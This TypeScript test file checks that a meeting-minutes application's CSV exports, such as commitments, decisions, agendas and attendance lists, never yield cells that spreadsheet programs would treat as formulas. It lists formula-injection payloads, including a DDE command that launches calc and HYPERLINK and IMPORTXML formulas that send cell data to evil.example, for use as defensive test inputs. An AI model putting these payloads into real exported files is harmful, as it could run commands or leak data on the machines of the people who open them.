import { CsvError, parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvOf } from '../../app/ground/documents/csv.ts'
import type { TestDatabase } from '../world/database.ts'
import { openWorld } from '../world/test-world.ts'
import type { Caller, World } from '../world/world.ts'

/** What spreadsheet programs would calculate, call or fetch, with what is put before it to hide it. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?x="&A1;"Protokoll")',
  '=IMPORTXML("http://evil.example", "//a")',
  ' =1+1',
  '\u00a0=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n\t @SUM(1)',
  '\u0000=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff20SUM(1)',
  '";=1+1;"',
  '",=1+1,"',
  'Stühle;=1+1;Tische',
  'Stühle,=1+1,Tische',
  'Stühle\t=1+1\tTische',
  'Stühle\r\n=1+1\r\nTische',
  'Stühle; =1+1',
  '""=1+1',
  `'; =1+1`,
]
const BEGINS = /^[\s\p{Cc}\ufeff"]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/u
/** Alone, or with the cell "x" behind it where nothing is parted. */
const PLAIN_NUMBER = /^[-+]?\d+(?:[.,]\d+)?(?:[;,]x)?$/

/** How different programs part the same file: by the right separator, or by one of their own, where quotes mean nothing. */
const READ_AS = [
  { delimiter: ';', quote: '"' },
  { delimiter: ',', quote: '"' },
  ...[';', ',', '\t', '|'].map(delimiter => ({ delimiter, quote: false as const })),
]
const parted = (bytes: Uint8Array, how: (typeof READ_AS)[number]): string[][] => {
  const options = { ...how, bom: true, relax_column_count: true, relax_quotes: true, skip_empty_lines: true }
  try {
    return parse(Buffer.from(bytes), options)
  } catch (error) {
    if (!(error instanceof CsvError) || error.code !== 'CSV_QUOTE_NOT_CLOSED') throw error
    // The wrong separator can open a quote that nobody closes: programs take the rest of the file for one cell then.
    return parse(Buffer.concat([bytes, Buffer.from('"')]), options)
  }
}

function calculated(bytes: Uint8Array): string[] {
  return READ_AS.flatMap(how => parted(bytes, how).flat()).filter(
    cell => BEGINS.test(cell) && !PLAIN_NUMBER.test(cell.replaceAll('"', '').trim()),
  )
}

describe('a cell', () => {
  const table = (cells: readonly string[]) => ({
    columns: [
      { label: 'A', kind: 'text' },
      { label: 'B', kind: 'text' },
    ] as const,
    rows: cells.map(cell => [cell, 'x']),
  })

  it('is taken for a formula when nobody guards it', () => {
    expect(calculated(Buffer.from(`A;B\r\n${FORMULAS[0]};x\r\n`))).not.toEqual([])
    expect(calculated(Buffer.from('A;B\r\n"Stühle,=1+1,Tische";x\r\n'))).not.toEqual([])
    expect(calculated(Buffer.from('A;B\r\nStühle,"=1+1;x\r\ny;z\r\n'))).not.toEqual([])
  })

  it.each([';', ','] as const)('never becomes a formula, whatever program opens it: %s', separator => {
    expect(calculated(csvOf(table(FORMULAS), separator))).toEqual([])
    const cell = fc
      .array(fc.constantFrom(...'=+-@;,|"\'\t\r\n a1\u00a0\uff1d'), { maxLength: 12 })
      .map(signs => signs.join(''))
    fc.assert(
      fc.property(
        fc.array(cell, { minLength: 1, maxLength: 5 }),
        cells => calculated(csvOf(table(cells), separator)).length === 0,
      ),
    )
  })

  it('is read back by another parser as it was, guards and line ends aside', () => {
    const cells = [
      'Räume; Stühle, Tische',
      '„Ja“, sagte "sie"',
      "L'école",
      'a\r\nb',
      '-12',
      '+4930123',
      '2,5',
      '  x  ',
      '',
    ]
    const bytes = csvOf(table(cells), ';')
    const rows = parse(Buffer.from(bytes), { delimiter: ';', bom: true }) as string[][]
    expect(rows.map(([cell]) => cell)).toEqual(['A', ...cells.map(cell => cell.replace(/\s+/g, ' ').trim())])
  })
})

describe('tables that leave', () => {
  let world: World<TestDatabase>
  let coordinator: Caller
  beforeAll(async () => {
    world = await openWorld()
    coordinator = await world.as('coordinator')
  })
  afterAll(() => world?.close())

  const bytesOf = async (path: string) => {
    const answer = await coordinator.get(path)
    expect([path, answer.status, answer.headers.get('content-type')]).toEqual([path, 200, 'text/csv; charset=utf-8'])
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename\*=UTF-8''[^;]+\.csv$/)
    return new Uint8Array(await answer.arrayBuffer())
  }

  it('list commitments without a formula, each wording and name of somebody outside in its cell', async () => {
    const bodies = await world.database.owner.selectFrom('body').select('id').orderBy('id').execute()
    let opened = 0
    for (const wording of FORMULAS) {
      const fields = {
        wording,
        owner: 'outside',
        outsideName: wording.slice(0, 200),
        dueOn: '',
        dueWords: wording.slice(0, 200),
      }
      const answer = await coordinator.post('/commitments', { ...fields, bodyId: bodies[0]!.id })
      if (answer.status === 303) opened += 1
    }
    expect(opened).toBeGreaterThan(FORMULAS.length / 2)
    const bytes = await bytesOf('/commitments.csv?list=open')
    expect(calculated(bytes)).toEqual([])
    const rows = parse(Buffer.from(bytes), { delimiter: ';', bom: true, columns: true }) as Record<string, string>[]
    expect(rows.filter(({ Zusage }) => Zusage?.includes('1+1')).length).toBeGreaterThan(10)
  })

  it('tell decisions, items of the agenda and names without a formula', async () => {
    const { owner } = world.database
    const hostile = `=HYPERLINK("http://evil.example";"x")`
    await owner.updateTable('entry').set({ content: hostile }).where('kind', '=', 'decision').execute()
    await owner.updateTable('decision').set({ condition: '@SUM(1)' }).execute()
    await owner.updateTable('agenda_item').set({ title: '+1+1' }).execute()
    await owner.updateTable('attendance').set({ name: '-1+1', on_behalf_of: '=1+1' }).execute()
    const { body_id: body, id } = await owner
      .selectFrom('meeting')
      .innerJoin('minutes', 'minutes.meeting_id', 'meeting.id')
      .innerJoin('entry', 'entry.minutes_id', 'minutes.id')
      .innerJoin('attendance', 'attendance.meeting_id', 'meeting.id')
      .where('entry.kind', '=', 'decision')
      .select(['meeting.id', 'meeting.body_id'])
      .orderBy('meeting.id')
      .executeTakeFirstOrThrow()
    for (const path of [
      `/bodies/${body}/decisions/csv`,
      `/meetings/${id}/agenda/csv`,
      `/meetings/${id}/attendance-list/csv`,
    ]) {
      const bytes = await bytesOf(path)
      expect(calculated(bytes)).toEqual([])
      expect(new TextDecoder().decode(bytes)).toMatch(/'[=+@-]/)
    }
  })
})
